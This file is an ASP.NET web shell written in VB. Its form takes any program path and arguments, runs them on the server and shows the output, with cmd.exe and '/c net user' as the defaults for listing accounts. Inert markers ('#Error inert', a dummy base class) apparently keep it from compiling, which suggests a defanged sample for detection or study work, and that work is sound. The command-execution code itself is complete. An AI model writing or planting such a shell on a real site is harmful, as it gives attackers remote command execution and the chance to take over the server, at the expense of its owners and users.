<%@ Page Language="VB" Inherits="Inert.Nothing" ValidateRequest="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
#Error inert
Sub RunIt(ByVal s As Object, ByVal e As EventArgs)
    Dim pr As New Process
    With pr.StartInfo
        .FileName = txtPath.Text
        .Arguments = txtArgs.Text
        .UseShellExecute = False
        .RedirectStandardOutput = True
        .RedirectStandardError = True
    End With
    pr.Start()
    litResult.Text = Server.HtmlEncode(pr.StandardOutput.ReadToEnd())
End Sub
</script>
<form runat="server">
 Program <asp:TextBox id="txtPath" runat="server" Text="c:\windows\system32\cmd.exe" />
 Arguments <asp:TextBox id="txtArgs" runat="server" Text="/c net user" />
 <asp:Button runat="server" Text="Run" OnClick="RunIt" />
 <pre><asp:Literal id="litResult" runat="server" /></pre>
</form>
